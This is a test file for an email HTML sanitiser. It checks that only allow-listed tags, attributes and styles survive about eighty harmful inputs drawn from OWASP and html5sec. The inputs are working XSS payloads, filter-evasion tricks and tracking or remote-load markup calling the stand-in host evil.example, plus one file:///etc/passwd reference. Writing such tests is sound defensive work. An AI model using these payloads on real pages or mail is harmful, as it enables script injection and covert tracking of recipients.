import { expect, test } from 'vitest'
import { sanitiseMail } from './sanitise.ts'

/**
 * Ways to run script or to call home that mails and pages have used: from the lists of OWASP (XSS filter
 * evasion), html5sec and of what mail programs were tested with (Email Privacy Tester).
 */
const harmful = [
  '<script>x()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<script/x>x()</script>',
  '<<script>x();//<</script>',
  '<img src=x onerror=x()>',
  '<img/src="x"/onerror=x()>',
  '<img """><script>x()</script>">',
  '<img src=`javascript:x()`>',
  '<img src="jav&#x09;ascript:x()">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x()>',
  '<img lowsrc="https://evil.example/l.gif" dynsrc="https://evil.example/d.gif">',
  '<img srcset="https://evil.example/s.gif 1x">',
  '<img src="data:image/svg+xml,<svg onload=x()>">',
  '<img src="//evil.example/p.gif">',
  '<img src="file:///etc/passwd">',
  '<a href="javascript:x()">a</a>',
  '<a href=" &#14; javascript:x()">a</a>',
  '<a href="java\nscript:x()">a</a>',
  '<a href="vbscript:x()">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=">a</a>',
  '<a href="https://a.example" ping="https://evil.example">a</a>',
  '<a href="https://a.example" onmouseover=x()>a</a>',
  '<a href="//evil.example">a</a>',
  '<svg onload=x()>',
  '<svg><script>x()</script></svg>',
  '<svg><a xlink:href="javascript:x()"><text>a</text></a></svg>',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<svg><style><img src=x onerror=x()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  '<template><img src=x onerror=x()></template>',
  '<iframe src="javascript:x()"></iframe>',
  '<iframe srcdoc="<script>x()</script>"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="x.class" codebase="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<link rel="prefetch" href="https://evil.example/p">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="x-dns-prefetch-control" content="on">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/b.gif)}</style>',
  '<p style="background:url(https://evil.example/b.gif)">p</p>',
  '<p style="background-image:\\75\\72\\6c(https://evil.example/b.gif)">p</p>',
  '<p style="width:expression(x())">p</p>',
  '<p style="behavior:url(#x);-moz-binding:url(https://evil.example/x.xml#x)">p</p>',
  '<p style="list-style:url(https://evil.example/l.gif)">p</p>',
  '<p style="content:url(https://evil.example/c.gif);cursor:url(https://evil.example/c.cur)">p</p>',
  '<p style="font-family:x;src:url(https://evil.example/f.woff)">p</p>',
  '<p style="position:fixed;inset:0;z-index:9999">p</p>',
  '<table background="https://evil.example/t.gif"><tr><td background="https://evil.example/d.gif">t</td></tr></table>',
  '<body background="https://evil.example/b.gif" onload=x()>b</body>',
  '<form action="https://evil.example"><input name=p autofocus onfocus=x()><button formaction="javascript:x()">b</button></form>',
  '<isindex action="javascript:x()">',
  '<input type="image" src="https://evil.example/i.gif">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.gif" onerror=x()></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video><source onerror=x() src="https://evil.example/v"></video>',
  '<details open ontoggle=x()>d</details>',
  '<marquee onstart=x()>m</marquee>',
  '<bgsound src="https://evil.example/b.wav">',
  '<xml src="https://evil.example/x.xml" id=x></xml><span datasrc=#x datafld=a dataformatas=html></span>',
  '<!--[if gte IE 4]><script>x()</script><![endif]-->',
  '<!--><img src=x onerror=x()>-->',
  '<![CDATA[<script>x()</script>]]>',
  '<?xml-stylesheet href="javascript:x()"?>',
  '<div id=location name=cookie>d</div>',
  '<p title="&quot;onmouseover=x()&quot;">p</p>',
  '<img alt="x&quot; onerror=&quot;x()" src=cid:a>',
  '<textarea></textarea><script>x()</script>',
  '<plaintext><img src=x onerror=x()>',
  '<xmp><img src=x onerror=x()></xmp>',
  '<title><img src=x onerror=x()></title>',
  '<select><option><img src=x onerror=x()></select>',
  '<portal src="https://evil.example"></portal>',
  '<p is="x-evil" slot="a">p</p>',
  'a\u0000<scr\u0000ipt>x()</scr\u0000ipt>',
]

const tags =
  /^(a|abbr|b|blockquote|body|br|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|span|strong|sub|sup|table|tbody|td|th|thead|tr|u|ul)$/
const attributes: Record<string, RegExp> = {
  alt: /^/,
  title: /^/,
  rel: /^noopener noreferrer nofollow$/,
  target: /^_blank$/,
  href: /^(https?:\/\/|mailto:|tel:)/,
  // What stands for a picture that is fetched only when it is asked for.
  src: /^(picture:\d+)?$/,
  style: /^[\w\s:;#.,%-]*$/,
}
const styleNames = /^(color|background(-color)?|font-(family|size|weight)|width|height)$/

test.each(harmful)('of %s only what is known to be harmless is left', (html) => {
  const { html: shown, pictures } = sanitiseMail(`<p>Dear Maria</p>${html}`)
  expect(shown).toContain('<p>Dear Maria</p>')
  const rest = shown.replace(
    /<(\/?)([a-z0-9]+)((?:\s+[a-z]+(?:="[^"<>]*")?)*)\s*\/?>/g,
    (...found) => {
      const [, , tag, given] = found
      expect(tag).toMatch(tags)
      for (const [, name = '', value = ''] of given.matchAll(/([a-z]+)(?:="([^"]*)")?/g)) {
        expect(Object.keys(attributes)).toContain(name)
        expect(value).toMatch(attributes[name] ?? /^never$/)
        if (name !== 'style') continue
        for (const one of value.split(';').filter(Boolean))
          expect(one.split(':')[0]).toMatch(styleNames)
      }
      return ''
    },
  )
  // What is no tag by now is text.
  expect(rest).not.toMatch(/[<>]/)
  for (const picture of pictures) {
    expect('url' in picture ? picture.url : 'cid').toMatch(/^(https?:\/\/|cid$)/)
  }
})
